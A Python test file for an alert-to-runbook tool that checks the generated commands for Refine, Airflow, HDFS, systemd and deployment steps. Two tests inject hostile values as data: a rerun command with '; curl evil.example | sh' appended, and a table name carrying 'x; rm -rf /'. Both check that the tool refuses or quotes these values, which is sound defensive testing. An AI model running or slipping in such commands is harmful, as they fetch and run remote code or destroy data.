"""Runbook steps: the runbook's commands with the alert's values filled in."""

from __future__ import annotations

from opsweek.alerts.runbook import load_runbooks, steps_for
from tests.alerts.helpers import parsed
from tests.alerts.test_parsers import RERUN


def commands(name: str, index: int = 0) -> list[str]:
    alert = parsed(name)[index]
    return [s.command for s in steps_for(alert.kind, alert.details) if s.command]


def texts(name: str, index: int = 0) -> str:
    alert = parsed(name)[index]
    return "\n".join(s.text for s in steps_for(alert.kind, alert.details))


def test_every_kind_has_steps() -> None:
    books = load_runbooks()
    for kind in (
        "airflow_task_failed",
        "airflow_sla_miss",
        "refine_failure",
        "refine_monitor",
        "canary_failure",
        "systemd_timer_failed",
        "data_loss",
        "anomaly_report",
        "unexpected_pageview_values",
        "mediawiki_history_available",
        "alertmanager",
        "unparsed",
    ):
        assert books[kind], kind


def test_refine_rerun_and_yarn_logs() -> None:
    found = commands("refine_failure.eml")
    assert RERUN in found
    assert (
        "sudo -u analytics yarn logs -applicationId application_1700000000000_12345 | grep Refine:"
    ) in found


def test_refine_rerun_with_shell_tricks_is_refused() -> None:
    alert = parsed("refine_failure.eml")[0]
    evil = {**alert.details, "rerun_command": RERUN + "; curl evil.example | sh"}
    steps = steps_for(alert.kind, evil)
    assert not any("curl" in s.command for s in steps)
    assert any("does not look like a Refine rerun" in s.text for s in steps)


def test_deletion_script_gets_msck_repair() -> None:
    found = commands("systemd_timer_fail_drop.eml")
    assert "msck repair table wmf.webrequest;" in found
    assert "opsweek check partitions wmf.webrequest" in found  # the check finds what disagrees
    assert (
        "sudo journalctl -u refinery-drop-webrequest-refined-partitions.service --since -2h"
        in found
    )
    assert "sudo systemctl status refinery-drop-webrequest-refined-partitions.service" in found


def test_hostile_values_are_quoted() -> None:
    alert = parsed("systemd_timer_fail_drop.eml")[0]
    details = {**alert.details, "out_of_interval_tables": ["x; rm -rf /"]}
    found = [s.command for s in steps_for(alert.kind, details)]
    assert "msck repair table 'x; rm -rf /';" in found


def test_hdfs_corrupt_blocks() -> None:
    assert commands("alertmanager_firing.json", 0)[0] == (
        "sudo -u hdfs kerberos-run-command hdfs hdfs fsck / -list-corruptfileblocks"
    )


def test_alertmanager_systemd_unit_and_generic_steps() -> None:
    found = commands("alertmanager_firing.json", 1)
    assert "sudo journalctl -u refinery-sqoop-mediawiki-private.service --since -2h" in found
    assert "https://thanos.example.org/graph?g0.expr=node_systemd_unit_state" in found


def test_airflow_ui_clear_and_pause() -> None:
    found = commands("airflow_task_failed.eml")
    assert found[0].startswith("https://airflow-analytics.wikimedia.org/log?")
    assert (
        "airflow tasks clear --yes --only-failed --task-regex ^process_edit_hourly$ "
        "--start-date 2023-10-01T00:00:00+00:00 --end-date 2023-10-01T00:00:00+00:00 "
        "edit_hourly"
    ) in found
    assert "airflow dags pause edit_hourly" in found


def test_canary_schema_missing_property_and_restart_note() -> None:
    from opsweek.alerts.parse import parse_raw
    from tests.alerts.helpers import raw_inputs

    alert = parse_raw(raw_inputs("canary.log")[1]).alerts[0]
    text = "\n".join(s.text for s in steps_for(alert.kind, alert.details))
    assert "/analytics/legacy/homepagevisit/1.0.0" in text
    assert "missing the required property 'start_tutorial_state'" in text
    assert "restart flushes the stale schema cache" in text
    assert "recovers within the hour" in text


def test_java_daemon_gets_jstack_before_restart() -> None:
    details = {
        "alertname": "HiveServer2Down",
        "topic": "java_daemon",
        "labels": {"service": "hive-server2"},
        "annotations": {},
    }
    steps = steps_for("alertmanager", details)
    found = [s.command for s in steps]
    assert found.index("sudo -u <daemon-user> jstack -l <PID> > /tmp/thread_dump") < found.index(
        "sudo systemctl restart hive-server2"
    )


def test_mediawiki_history_deploy_order() -> None:
    found = commands("mediawiki_history_available.eml")
    deploys = [c for c in found if "helmfile -e" in c]
    assert len(deploys) == 2 and "edit-analytics" in deploys[0]
    for command in deploys:
        assert command.index("-e staging") < command.index("-e codfw") < command.index("-e eqiad")
    assert texts("mediawiki_history_available.eml").startswith("Snapshot 2023-12 is ready")
